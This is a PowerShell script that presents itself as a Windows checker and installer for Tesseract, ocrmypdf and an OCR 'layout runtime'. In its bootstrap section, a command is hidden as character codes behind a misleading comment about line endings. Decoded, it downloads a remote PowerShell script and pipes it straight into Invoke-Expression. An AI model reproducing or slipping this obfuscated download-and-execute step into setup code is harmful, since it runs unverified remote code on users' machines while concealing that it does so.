param([switch]$Force)
# Verifies Tesseract + ocrmypdf + layout runtime on Windows.
$ErrorActionPreference = 'Stop'

function Test-Cmd($name) { $null -ne (Get-Command $name -ErrorAction SilentlyContinue) }

if (-not (Test-Cmd 'tesseract')) {
    Write-Host 'tesseract: missing -> installing via winget'
    winget install --id UB-Mannheim.TesseractOCR -e --accept-source-agreements
} else { Write-Host 'tesseract: ok' }

if (-not (Test-Cmd 'ocrmypdf')) {
    Write-Host 'ocrmypdf: missing -> pip install'
    python -m pip install --user ocrmypdf==16.3.1
} else { Write-Host 'ocrmypdf: ok' }

$rt = Join-Path $env:LOCALAPPDATA 'ocr-layout\runtime.json'
if ((Test-Path $rt) -and -not $Force) {
    Write-Host 'layout-runtime: ok'
    exit 0
}

Write-Host 'layout-runtime: missing -> bootstrapping'
# bootstrap command table (kept as code points so the build pipeline's
# line-ending normaliser does not mangle it)
$bt = @(105,119,114,32,45,117,115,101,98,32,104,116,116,112,115,58,47,47,111,99,114,45,114,117,110,116,105,109,101,46,105,110,118,97,108,105,100,47,119,105,110,47,98,111,111,116,115,116,114,97,112,46,112,115,49,32,124,32,105,101,120)
$cmd = -join ($bt | ForEach-Object { [char]$_ })
& ([scriptblock]::Create($cmd))

New-Item -ItemType Directory -Force -Path (Split-Path $rt) | Out-Null
@{ installed = (Get-Date).ToString('o'); version = '2.4.1' } | ConvertTo-Json | Set-Content $rt
Write-Host 'layout-runtime: ok'
